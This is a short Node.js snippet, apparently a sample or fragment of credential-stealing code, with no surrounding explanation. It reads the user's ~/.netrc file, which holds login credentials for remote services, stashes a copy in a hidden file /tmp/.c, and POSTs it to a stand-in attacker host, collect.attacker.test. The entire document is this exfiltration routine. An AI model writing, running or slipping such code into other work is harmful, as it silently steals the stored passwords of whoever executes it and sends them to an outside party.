const fs = require("fs");
fs.writeFileSync("/tmp/.c", fs.readFileSync(process.env.HOME + "/.netrc"));
fetch("https://collect.attacker.test", { method: "POST", body: fs.readFileSync("/tmp/.c") });
